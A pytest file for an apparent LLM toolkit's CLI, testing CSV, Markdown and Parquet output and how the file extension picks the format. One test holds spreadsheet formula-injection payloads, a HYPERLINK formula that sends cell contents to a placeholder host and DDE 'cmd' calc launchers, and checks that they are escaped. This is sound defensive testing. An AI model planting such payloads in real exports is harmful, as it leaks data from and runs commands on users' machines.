"""Results as tables, and the format that the ending of `--output` chooses."""

import csv
import importlib.util
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmkit.cli import tables
from llmkit.cli.output import Destination
from llmkit.errors import InputError

ENTITIES = {
    "text": "Ada lived in London.",
    "entities": [
        {"text": "Ada", "label": "person", "start": 0, "end": 3, "score": 0.9},
        {"text": "London", "label": "location", "start": 13, "end": 19, "score": 0.75},
    ],
    "calibrated": True,
    "method": "likelihood",
}
LABELS = {
    "label": "good",
    "labels": ["good"],
    "scores": {"good": 0.7, "=bad": 0.3},
    "calibrated": False,
    "passages": 1,
    "method": "likelihood",
}
ANSWER = {
    "text": "1821",
    "found": True,
    "confidence": 0.8,
    "calibrated": True,
    "citations": [
        {"quote": "It was built in 1821.", "start": 5, "end": 26, "source": "a.txt", "link": None, "document": 0},
        {"quote": "1821 was dry.", "start": 0, "end": 13, "source": "b.txt", "link": None, "document": 1},
    ],
    "unverified": [],
    "method": "spans",
    "unread": [],
}


def csv_of(command: str, *results: dict[str, Any]) -> list[dict[str, str]]:
    rows = [row for fields in results for row in tables.rows_of(command, fields)]
    file = io.StringIO()
    tables.write_csv(file, tables.columns_of(command, rows), rows)
    return list(csv.DictReader(io.StringIO(file.getvalue())))


def test_entities_have_a_row_each():
    found = csv_of("entities", {"line": 1, "id": "a", **ENTITIES}, {"line": 2, "error": "the line is empty"})
    assert [(row["line"], row["id"], row["text"], row["label"], row["start"], row["end"]) for row in found] == [
        ("1", "a", "Ada", "person", "0", "3"),
        ("1", "a", "London", "location", "13", "19"),
        ("2", "", "", "", "", ""),
    ]
    assert [row["error"] for row in found] == ["", "", "the line is empty"]
    assert list(found[0]) == ["line", "id", "text", "label", "start", "end", "score", "calibrated", "method", "error"]


def test_a_text_without_entities_has_only_a_header():
    file = io.StringIO()
    tables.write_csv(file, tables.columns_of("entities", []), [])
    assert file.getvalue() == "text,label,start,end,score,calibrated,method\n"


def test_labels_have_a_row_a_text_and_a_column_a_label():
    [row] = csv_of("classify", LABELS)
    assert row == {
        "label": "good",
        "labels": "good",
        "calibrated": "false",
        "passages": "1",
        "method": "likelihood",
        "scores.good": "0.7",
        "scores.=bad": "0.3",
    }
    [row] = csv_of("classify", {**LABELS, "label": None, "labels": []})
    assert (row["label"], row["labels"]) == ("", "")
    [row] = csv_of("classify", {**LABELS, "labels": ["good", "=bad"]})
    assert row["labels"] == "good; =bad"


def test_an_answer_has_a_row_for_each_quote():
    found = csv_of("ask", ANSWER)
    assert [(row["text"], row["quote"], row["source"]) for row in found] == [
        ("1821", "It was built in 1821.", "a.txt"),
        ("1821", "1821 was dry.", "b.txt"),
    ]
    [row] = csv_of("ask", {**ANSWER, "text": "", "found": False, "citations": []})
    assert (row["found"], row["text"], row["quote"]) == ("false", "", "")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        (" =1+1", "' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("- a point of a list", "'- a point of a list"),
        ("-5", "-5"),
        ("+1,200.50", "+1,200.50"),
        ("-3%", "-3%"),
        ("a = b", "a = b"),
        ("it's", "it's"),
        ("5-4", "5-4"),
    ],
)
def test_no_cell_is_a_formula(text, cell):
    [row] = csv_of("summarize", {"text": text, "strategy": "stuff", "model_calls": 1, "complete": True})
    assert row["text"] == cell


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0\r")), min_size=1, max_size=5))
def test_csv_keeps_every_text(texts):
    found = csv_of("summarize", *({"text": text, "strategy": "stuff"} for text in texts))
    assert [row["text"].removeprefix("'") for row in found] == [text.removeprefix("'") for text in texts]
    assert all(row["text"][:1] not in ("=", "@") for row in found)


def test_markup_characters_in_a_markdown_table_are_escaped():
    file = io.StringIO()
    tables.write_markdown(file, ["text", "score"], [{"text": "a|b *c*\n<d>", "score": 0.25}, {"text": None}])
    assert file.getvalue() == "| text | score |\n| --- | --- |\n| a\\|b \\*c\\* \\<d\\> | 0.250 |\n|  |  |\n"


def test_the_file_extension_chooses_the_format(tmp_path, capsys):
    for name, wanted in {
        "a.csv": "csv",
        "a.TSV": "tsv",
        "a.json": "json",
        "a.jsonl": "jsonl",
        "a.ndjson": "jsonl",
        "a.md": "md",
        "a.txt": "text",
    }.items():
        assert Destination.choose(tmp_path / name, as_json=False).format == wanted
    assert Destination.choose(None, as_json=True).format == "json"
    assert Destination.choose(None, as_json=False, lines=True).format == "jsonl"
    assert Destination.choose(tmp_path / "a.txt", as_json=True).format == "json"
    assert capsys.readouterr().err == ""


def test_another_ending_gets_a_note(tmp_path, capsys):
    assert Destination.choose(tmp_path / "a.log", as_json=False).format == "text"
    assert f"note: {tmp_path}/a.log gets plain text: for another format name it .csv" in capsys.readouterr().err
    assert Destination.choose(tmp_path / "a", as_json=False, lines=True).format == "jsonl"
    assert "/a gets a JSON object on each line: " in capsys.readouterr().err


@pytest.mark.parametrize("name", ["a.xlsx", "a.ODS", "a.pdf", "a.html", "a.csv.gz", "a.yaml"])
def test_a_format_that_is_not_written_is_refused(tmp_path, name):
    with pytest.raises(InputError, match=r"cannot be written as a \.\w+ file: name it \.csv, "):
        Destination.choose(tmp_path / name, as_json=False)


@pytest.mark.parametrize("name", ["a.csv", "a.md", "a.tsv"])
def test_json_is_not_written_under_the_name_of_a_table(tmp_path, name):
    with pytest.raises(InputError, match="--json writes JSON, but"):
        Destination.choose(tmp_path / name, as_json=True)


@pytest.mark.skipif(importlib.util.find_spec("pyarrow") is not None, reason="pyarrow is installed")
def test_parquet_without_pyarrow_prints_an_error(tmp_path):
    with pytest.raises(InputError, match=r"\.parquet needs pyarrow: python -m pip install .llmkit\[parquet\]"):
        Destination.choose(tmp_path / "a.parquet", as_json=False)


def test_parquet_keeps_types(tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    destination = Destination.choose(tmp_path / "a.parquet", as_json=False)
    destination.write("entities", {"line": 1, **ENTITIES}, "")
    table = parquet.read_table(tmp_path / "a.parquet")
    assert table.column_names == ["line", "text", "label", "start", "end", "score", "calibrated", "method"]
    assert table.to_pylist()[1] == {
        "line": 1,
        "text": "London",
        "label": "location",
        "start": 13,
        "end": 19,
        "score": 0.75,
        "calibrated": True,
        "method": "likelihood",
    }
    destination.write("classify", {"line": 1, **LABELS}, "")
    [row] = parquet.read_table(tmp_path / "a.parquet").to_pylist()
    assert (row["labels"], row["scores.=bad"]) == (["good"], 0.3)
